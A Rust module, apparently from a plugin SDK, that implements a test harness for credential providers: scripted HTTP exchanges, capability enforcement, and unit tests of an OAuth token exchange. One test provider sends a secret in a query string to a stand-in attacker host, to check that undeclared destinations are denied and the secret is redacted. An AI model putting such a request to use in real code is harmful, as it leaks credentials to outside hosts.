//! Runs a [`Provider`] natively, without a node or a host: the operator's
//! config is a map, HTTP exchanges are scripted, log lines are collected.
//! Enabled by the `testing` feature, for a plugin's own `cargo test`:
//!
//! ```toml
//! [dev-dependencies]
//! wcp-guest-sdk = { version = "0.1", features = ["testing"] }
//! ```
//!
//! ```ignore
//! #[test]
//! fn exchanges_the_token() {
//!     let run = wcp_guest_sdk::harness!()          // with this plugin's capabilities.json
//!         .config("tokenEndpoint", "https://sts.example.com/token")
//!         .expect(Exchange::post("https://sts.example.com/token")
//!             .respond(200, r#"{"access_token":"t","expires_in":3600}"#))
//!         .run::<MyProvider>(Request::new("registry.example.com/app")
//!             .with_service_account_token("eyJ..."));
//!     let credentials = run.result.unwrap();
//!     assert_eq!(run.requests[0].form()["subject_token"], "eyJ...");
//! }
//! ```
//!
//! The harness enforces the declaration as the host does: config keys the
//! plugin does not declare are withheld, requests to destinations it does
//! not declare fail with [`HttpError::Denied`], and a plugin that does not
//! declare `serviceAccountToken` gets no token. What it cannot reproduce
//! is the operator's side (grants, address checks, TLS, limits): that
//! needs the host.

use crate::capabilities::Declaration;
use crate::http::{HttpError, Method, Response, url};
use crate::log::Level;
use crate::{Credentials, Provider, ProviderError, Request};
use std::cell::RefCell;
use std::collections::{BTreeMap, VecDeque};

/// Builds a [`Harness`] for the calling plugin, with the declaration its
/// `declare_capabilities!` embeds (use it inside the plugin crate).
// `crate::` on purpose: the declaration lives in the calling plugin.
#[allow(clippy::crate_in_macro_def)]
#[macro_export]
macro_rules! harness {
    () => {
        $crate::testing::Harness::with_declaration(crate::__WCP_CAPABILITIES)
    };
}

/// One scripted HTTP exchange: the request the provider must send next, and
/// the answer it gets.
#[derive(Clone, Debug)]
pub struct Exchange {
    method: Method,
    url: String,
    answer: Result<Response, HttpError>,
}

impl Exchange {
    /// Expects `method` to `url` (compared without the query string when
    /// `url` has none); answers `200` with an empty body until told otherwise.
    pub fn new(method: Method, url: impl Into<String>) -> Self {
        Self {
            method,
            url: url.into(),
            answer: Ok(Response {
                status: 200,
                headers: Vec::new(),
                body: Vec::new(),
            }),
        }
    }

    /// Expects a `GET` of `url`.
    pub fn get(url: impl Into<String>) -> Self {
        Self::new(Method::Get, url)
    }

    /// Expects a `POST` to `url`.
    pub fn post(url: impl Into<String>) -> Self {
        Self::new(Method::Post, url)
    }

    /// Answers with `status` and `body`.
    pub fn respond(mut self, status: u16, body: impl Into<Vec<u8>>) -> Self {
        let headers = self.answer.map(|r| r.headers).unwrap_or_default();
        self.answer = Ok(Response {
            status,
            headers,
            body: body.into(),
        });
        self
    }

    /// Adds a response header.
    pub fn header(mut self, name: &str, value: impl AsRef<[u8]>) -> Self {
        if let Ok(response) = &mut self.answer {
            response
                .headers
                .push((name.to_ascii_lowercase(), value.as_ref().to_vec()));
        }
        self
    }

    /// Fails the request instead, e.g. with `HttpError::Transport` to test
    /// a connection failure, or `HttpError::Denied` for an ungranted one.
    pub fn fail(mut self, error: HttpError) -> Self {
        self.answer = Err(error);
        self
    }
}

/// A request the provider sent.
#[derive(Clone, Debug)]
pub struct SentRequest {
    pub method: Method,
    pub url: String,
    pub headers: Vec<(String, Vec<u8>)>,
    pub body: Vec<u8>,
}

impl SentRequest {
    /// The first value of header `name` (any case), if UTF-8.
    pub fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(n, _)| n.eq_ignore_ascii_case(name))
            .and_then(|(_, v)| std::str::from_utf8(v).ok())
    }

    /// The body as text (lossy).
    pub fn text(&self) -> String {
        String::from_utf8_lossy(&self.body).into_owned()
    }

    /// The body decoded as a form (last value wins).
    pub fn form(&self) -> BTreeMap<String, String> {
        let text = self.text();
        text.split('&')
            .filter(|p| !p.is_empty())
            .filter_map(|pair| {
                let (name, value) = pair.split_once('=').unwrap_or((pair, ""));
                Some((
                    crate::http::form::decode_component(name)?,
                    crate::http::form::decode_component(value)?,
                ))
            })
            .collect()
    }

    /// The body parsed as JSON (`Null` if it is not JSON).
    pub fn json(&self) -> serde_json::Value {
        serde_json::from_slice(&self.body).unwrap_or(serde_json::Value::Null)
    }
}

/// What one run did.
#[derive(Debug)]
pub struct Run {
    /// What the provider returned.
    pub result: Result<Credentials, ProviderError>,
    /// Every request it sent, in order, the unexpected ones included.
    pub requests: Vec<SentRequest>,
    /// Every log line.
    pub logs: Vec<(Level, String)>,
    /// Scripted exchanges it never reached.
    pub unused: Vec<Exchange>,
    /// Requests that matched no scripted exchange (they failed with
    /// `HttpError::Transport`).
    pub unexpected: Vec<String>,
}

impl Run {
    /// The credentials, asserting that the run succeeded and went exactly as
    /// scripted.
    #[track_caller]
    pub fn credentials(self) -> Credentials {
        assert!(
            self.unexpected.is_empty(),
            "unexpected requests: {:?}",
            self.unexpected
        );
        assert!(
            self.unused.is_empty(),
            "unused exchanges: {:?}",
            self.unused
        );
        match self.result {
            Ok(credentials) => credentials,
            Err(e) => panic!("the provider failed: {e}"),
        }
    }

    /// The error, asserting that the run failed.
    #[track_caller]
    pub fn error(self) -> ProviderError {
        match self.result {
            Ok(credentials) => panic!("the provider succeeded: {credentials:?}"),
            Err(e) => e,
        }
    }
}

/// A native stand-in for the host; see the [module docs](self).
#[derive(Clone, Debug, Default)]
pub struct Harness {
    config: BTreeMap<String, String>,
    declaration: Option<Declaration>,
    exchanges: Vec<Exchange>,
}

impl Harness {
    /// A harness that enforces no declaration (everything is declared).
    pub fn new() -> Self {
        Self::default()
    }

    /// A harness that enforces `json`, a capabilities.json document;
    /// [`harness!`](crate::harness) passes the plugin's own.
    #[track_caller]
    pub fn with_declaration(json: &[u8]) -> Self {
        let declaration = Declaration::parse(json).expect("the declaration is not valid JSON");
        Self {
            declaration: Some(declaration),
            ..Self::default()
        }
    }

    /// Sets one of the operator's config values.
    pub fn config(mut self, key: impl Into<String>, value: impl Into<String>) -> Self {
        self.config.insert(key.into(), value.into());
        self
    }

    /// Scripts the next HTTP exchange.
    pub fn expect(mut self, exchange: Exchange) -> Self {
        self.exchanges.push(exchange);
        self
    }

    /// Runs `P` once on `request`, as the host would.
    pub fn run<P: Provider>(self, mut request: Request) -> Run {
        let declared = |d: &Declaration| d.service_account_token;
        if self.declaration.as_ref().is_some_and(|d| !declared(d)) {
            request.service_account_token = None;
        }
        let config = match &self.declaration {
            Some(d) => self
                .config
                .into_iter()
                .filter(|(k, _)| d.declares_config_key(k))
                .collect(),
            None => self.config,
        };
        let state = State {
            config,
            declaration: self.declaration,
            exchanges: self.exchanges.into(),
            requests: Vec::new(),
            logs: Vec::new(),
            unexpected: Vec::new(),
        };
        let previous = CURRENT.with(|c| c.borrow_mut().replace(state));
        assert!(previous.is_none(), "Harness::run is not reentrant");
        let result = P::get_credentials(request);
        let state = CURRENT
            .with(|c| c.borrow_mut().take())
            .expect("harness state");
        Run {
            result,
            requests: state.requests,
            logs: state.logs,
            unused: state.exchanges.into(),
            unexpected: state.unexpected,
        }
    }
}

struct State {
    config: BTreeMap<String, String>,
    declaration: Option<Declaration>,
    exchanges: VecDeque<Exchange>,
    requests: Vec<SentRequest>,
    logs: Vec<(Level, String)>,
    unexpected: Vec<String>,
}

thread_local! {
    static CURRENT: RefCell<Option<State>> = const { RefCell::new(None) };
}

#[track_caller]
fn with_state<T>(f: impl FnOnce(&mut State) -> T) -> T {
    CURRENT.with(|c| {
        let mut current = c.borrow_mut();
        let state = current.as_mut().expect(
            "wcp_guest_sdk: config, log and http need the host; natively they work only inside testing::Harness::run",
        );
        f(state)
    })
}

pub(crate) fn declaration() -> Option<Declaration> {
    CURRENT.with(|c| c.borrow().as_ref().and_then(|s| s.declaration.clone()))
}

pub(crate) fn config_get(key: &str) -> Option<String> {
    with_state(|s| s.config.get(key).cloned())
}

pub(crate) fn config_keys() -> Vec<String> {
    with_state(|s| s.config.keys().cloned().collect())
}

pub(crate) fn log(level: Level, message: &str) {
    with_state(|s| s.logs.push((level, message.to_string())));
}

/// `scheme://host[:port]` of a URL, lowercase, default ports dropped.
fn origin(text: &str) -> Option<(bool, String, u16)> {
    let target = url::parse(text).ok()?;
    let default = if target.https { 443 } else { 80 };
    let authority = target.authority.to_ascii_lowercase();
    let (host, port) = match authority.rsplit_once(':') {
        Some((h, p)) if !h.ends_with(']') || p.is_empty() => (h.to_string(), p.parse().ok()?),
        _ => (authority, default),
    };
    Some((target.https, host, port))
}

fn declares(state: &State, target: &(bool, String, u16)) -> bool {
    let Some(declaration) = &state.declaration else {
        return true;
    };
    declaration.outbound.iter().any(|entry| {
        let destination = match entry.strip_prefix("config:") {
            Some(key) => match state.config.get(key) {
                Some(value) => value.clone(),
                None => return false,
            },
            None => entry.clone(),
        };
        let Some((https, pattern, port)) = origin(&destination) else {
            return false;
        };
        if (https, port) != (target.0, target.2) {
            return false;
        }
        match pattern.strip_prefix("*.") {
            Some(suffix) => target
                .1
                .strip_suffix(suffix)
                .is_some_and(|rest| rest.len() > 1 && rest.ends_with('.')),
            None => pattern == target.1,
        }
    })
}

fn without_query(url: &str) -> &str {
    url.split(['?', '#']).next().unwrap_or(url)
}

pub(crate) fn send(
    method: Method,
    url_text: &str,
    headers: Vec<(String, Vec<u8>)>,
    body: &[u8],
    max_body_bytes: usize,
) -> Result<Response, HttpError> {
    let target = url::parse(url_text)?;
    drop(target);
    let shown = format!("{} {}", method.as_str(), url::redacted(url_text));
    with_state(|state| {
        state.requests.push(SentRequest {
            method,
            url: url_text.to_string(),
            headers,
            body: body.to_vec(),
        });
        let Some(target) = origin(url_text) else {
            return Err(HttpError::InvalidRequest(format!("{shown}: bad authority")));
        };
        if !declares(state, &target) {
            return Err(HttpError::Denied(format!(
                "{shown}: the destination is not declared in the plugin's capabilities.json"
            )));
        }
        let matches = state.exchanges.front().is_some_and(|e| {
            e.method == method
                && (e.url == url_text || (!e.url.contains('?') && e.url == without_query(url_text)))
        });
        if !matches {
            let next = state
                .exchanges
                .front()
                .map(|e| format!("{} {}", e.method.as_str(), e.url));
            state.unexpected.push(shown.clone());
            return Err(HttpError::Transport(format!(
                "{shown}: testing: not the next scripted exchange (expected {})",
                next.as_deref().unwrap_or("no more requests")
            )));
        }
        let exchange = state.exchanges.pop_front().expect("checked");
        let response = exchange.answer?;
        if response.body.len() > max_body_bytes {
            return Err(HttpError::BodyTooLarge {
                limit: max_body_bytes,
            });
        }
        Ok(response)
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::http::{self, oauth};
    use crate::{config, image, log};

    /// An RFC 8693 exchange, as a vendor would write it.
    struct Exchanger;

    impl Provider for Exchanger {
        fn get_credentials(request: Request) -> Result<Credentials, ProviderError> {
            let endpoint = config::require("tokenEndpoint")?;
            let subject = request.require_service_account_token()?;
            log::info!("exchanging at {endpoint}");
            let token = oauth::TokenExchange::new(endpoint, subject)
                .audience(config::get("audience").unwrap_or_default())
                .send()?;
            Ok(token.into_credentials(image::registry_of(&request.image), "oauth2"))
        }
    }

    const DECLARATION: &[u8] = br#"{"outbound": ["config:tokenEndpoint"], "config": ["audience"], "serviceAccountToken": true}"#;

    fn harness() -> Harness {
        Harness::with_declaration(DECLARATION)
            .config("tokenEndpoint", "https://sts.example.com/token")
            .config("audience", "registry.example.com")
    }

    #[test]
    fn runs_a_provider_with_config_http_and_log() {
        let run = harness()
            .expect(
                Exchange::post("https://sts.example.com/token")
                    .respond(200, r#"{"access_token":"registry-token","expires_in":600}"#),
            )
            .run::<Exchanger>(
                Request::new("registry.example.com/team/app").with_service_account_token("eyJsa"),
            );
        assert_eq!(run.requests.len(), 1);
        let form = run.requests[0].form();
        assert_eq!(form["subject_token"], "eyJsa");
        assert_eq!(form["audience"], "registry.example.com");
        assert_eq!(form["grant_type"], oauth::GRANT_TYPE_TOKEN_EXCHANGE);
        assert_eq!(
            run.logs,
            [(
                Level::Info,
                "exchanging at https://sts.example.com/token".to_string()
            )]
        );
        let credentials = run.credentials();
        assert_eq!(credentials.auth[0].match_key, "registry.example.com");
        assert_eq!(credentials.auth[0].password, "registry-token");
        assert!(credentials.expires_at.is_some());
    }

    #[test]
    fn refusals_and_missing_settings_come_back_as_the_host_would_give_them() {
        let err = harness()
            .expect(Exchange::post("https://sts.example.com/token").respond(
                400,
                r#"{"error":"invalid_grant","error_description":"audience not allowed"}"#,
            ))
            .run::<Exchanger>(Request::new("r.io/a").with_service_account_token("eyJsa"))
            .error();
        assert!(
            matches!(&err, ProviderError::Unauthorized(m) if m.ends_with("invalid_grant: audience not allowed")),
            "{err:?}"
        );
        // A refusal quoting a long subject token: replaced before the
        // description's bound could cut it into an unrecognisable prefix.
        let long = format!("eyJ{}", "a".repeat(400));
        let err = harness()
            .expect(Exchange::post("https://sts.example.com/token").respond(
                400,
                format!(r#"{{"error":"invalid_grant","error_description":"bad subject {long}"}}"#),
            ))
            .run::<Exchanger>(Request::new("r.io/a").with_service_account_token(long.clone()))
            .error();
        assert!(
            matches!(&err, ProviderError::Unauthorized(m) if m.ends_with("invalid_grant: bad subject <redacted>") && !m.contains("eyJaaaa")),
            "{err:?}"
        );
        let err = harness().run::<Exchanger>(Request::new("r.io/a")).error();
        assert!(
            matches!(&err, ProviderError::Config(m) if m.contains("tokenAttributes")),
            "{err:?}"
        );
        let err = Harness::with_declaration(DECLARATION)
            .run::<Exchanger>(Request::new("r.io/a"))
            .error();
        assert!(
            matches!(&err, ProviderError::Config(m) if m.contains("not set by the operator")),
            "{err:?}"
        );
    }

    #[test]
    fn the_declaration_is_enforced() {
        // Undeclared config keys are withheld, and said to be undeclared.
        let err = Harness::with_declaration(br#"{"config": ["a"]}"#)
            .config("tokenEndpoint", "https://sts.example.com/token")
            .run::<Exchanger>(Request::new("r.io/a"))
            .error();
        assert!(
            matches!(&err, ProviderError::Config(m) if m.contains("not declared by the plugin")),
            "{err:?}"
        );
        // An undeclared token is withheld.
        let err = Harness::with_declaration(br#"{"outbound": ["config:tokenEndpoint"]}"#)
            .config("tokenEndpoint", "https://sts.example.com/token")
            .run::<Exchanger>(Request::new("r.io/a").with_service_account_token("eyJ"))
            .error();
        assert!(
            matches!(&err, ProviderError::Config(m) if m.contains("capabilities.json")),
            "{err:?}"
        );
        // An undeclared destination is denied.
        struct Get;
        impl Provider for Get {
            fn get_credentials(_: Request) -> Result<Credentials, ProviderError> {
                http::Request::get("https://evil.example.net/x?token=s3cr3t").send()?;
                http::Request::get("https://a.b.example.com:8443/x").send()?;
                Err(ProviderError::NoCredentials("done".into()))
            }
        }
        let run = Harness::with_declaration(br#"{"outbound": ["https://*.example.com:8443"]}"#)
            .expect(Exchange::get("https://a.b.example.com:8443/x"))
            .run::<Get>(Request::new("r.io/a"));
        assert!(
            matches!(&run.result, Err(ProviderError::Config(m)) if m.contains("not declared") && !m.contains("s3cr3t")),
            "{:?}",
            run.result
        );
        assert_eq!(run.unused.len(), 1);
        let run = Harness::new()
            .expect(Exchange::get("https://evil.example.net/x"))
            .expect(Exchange::get("https://a.b.example.com:8443/x").respond(404, ""))
            .run::<Get>(Request::new("r.io/a"));
        assert_eq!(run.requests.len(), 2);
        assert!(matches!(run.result, Err(ProviderError::NoCredentials(_))));
    }

    #[test]
    fn unexpected_requests_fail_and_are_reported() {
        let run = harness()
            .expect(Exchange::get("https://sts.example.com/token"))
            .run::<Exchanger>(Request::new("r.io/a").with_service_account_token("eyJ"));
        assert_eq!(run.unexpected, ["POST https://sts.example.com/token"]);
        assert!(matches!(run.result, Err(ProviderError::Upstream(_))));
    }

    #[test]
    #[should_panic(expected = "only inside testing::Harness::run")]
    fn host_calls_outside_a_run_say_why_they_panic() {
        config::get("x");
    }
}
